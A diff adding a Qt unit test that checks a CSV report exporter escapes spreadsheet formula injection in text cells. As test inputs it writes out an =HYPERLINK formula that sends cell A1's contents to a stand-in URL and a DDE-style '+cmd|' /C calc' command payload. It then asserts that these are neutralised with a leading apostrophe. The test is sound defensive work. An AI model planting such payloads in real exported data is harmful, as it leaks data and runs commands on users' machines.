@@ -5,6 +5,7 @@
 #include <QTemporaryDir>
 #include <QTest>
 
+#include "core/report/csvcell.h"
 #include "core/report/csvexport.h"
 #include "tests/core/report/reportfixture.h"
 #include "tests/support/testdata.h"
@@ -186,6 +187,51 @@ private Q_SLOTS:
         QVERIFY(!buffer.data().startsWith("\xEF\xBB\xBF"));
         QVERIFY(text.contains(u",\"#blokecore grew 2.6×, mostly on \"\"match day\"\" posts\","_s));
         QVERIFY(text.contains(u",#matchalatte #抹茶拿铁 #icedmatcha,"_s));
+    }
+
+    void formulasAreEscaped()
+    {
+        // Finding 9 of issue 15: a tag such as =HYPERLINK(...) was written as is into `anchor` and `hashtags`, and a
+        // spreadsheet ran it. Every text cell that starts with = + - @ tab or CR is prefixed with ' and quoted.
+        const QString payload = u"=HYPERLINK(\"http://x\"&A1,\"click\")"_s;
+        RunResult run = reportfixture::threeTiles();
+        ClusterResult *tile = nullptr;
+        for (ClusterResult &c : run.clusters) {
+            if (c.trendId == u"t-3f9a2c"_s)
+                tile = &c;
+        }
+        QVERIFY(tile);
+        tile->anchor = payload;
+        tile->hashtags = {payload, u"matcha"_s};
+        tile->title = u"+cmd|' /C calc'!A0"_s;
+        tile->insight = u"@SUM(1+1)"_s;
+        tile->recommendation = u"\tTAB"_s;
+        tile->regions = {u"-2+3"_s};
+
+        QBuffer buffer;
+        buffer.open(QIODevice::WriteOnly);
+        QVERIFY(writeTilesCsv(run, buffer, CsvOptions{{u"t-3f9a2c"_s}, false}).ok());
+        const QString text = QString::fromUtf8(buffer.data());
+        QVERIFY2(text.contains(u",\"'=HYPERLINK(\"\"http://x\"\"&A1,\"\"click\"\")\","_s), qPrintable(text));
+        QVERIFY(!text.contains(u",=HYPERLINK"_s));
+
+        const auto rows = exportAndParse(run, CsvOptions{{u"t-3f9a2c"_s}, true});
+        QCOMPARE(rows.size(), 2);
+        const QStringList header = rows.at(0);
+        auto cell = [&](const QString &column) { return rows.at(1).at(header.indexOf(column)); };
+        QCOMPARE(cell(u"anchor"_s), u"'"_s + payload);
+        QCOMPARE(cell(u"hashtags"_s), u"'"_s + payload + u" matcha"_s);
+        QCOMPARE(cell(u"title"_s), u"'+cmd|' /C calc'!A0"_s);
+        QCOMPARE(cell(u"insight"_s), u"'@SUM(1+1)"_s);
+        QCOMPARE(cell(u"recommendation"_s), u"'\tTAB"_s);
+        QCOMPARE(cell(u"regions"_s), u"'-2+3"_s);
+        // Numbers stay numbers: a negative surge_z is not a formula.
+        QCOMPARE(csvCell(u"-1.5"_s), u"-1.5"_s);
+        QCOMPARE(csvCell(u"+3"_s), u"+3"_s);
+        QCOMPARE(csvCell(u"-"_s), u"\"'-\""_s);
+        QCOMPARE(csvCell(u"\rx"_s), u"\"'\rx\""_s);
+        QCOMPARE(csvCell(u"a,b"_s), u"\"a,b\""_s);
+        QCOMPARE(csvCell(u"plain"_s), u"plain"_s);
     }
 
     void matchesTheReviewedFile()
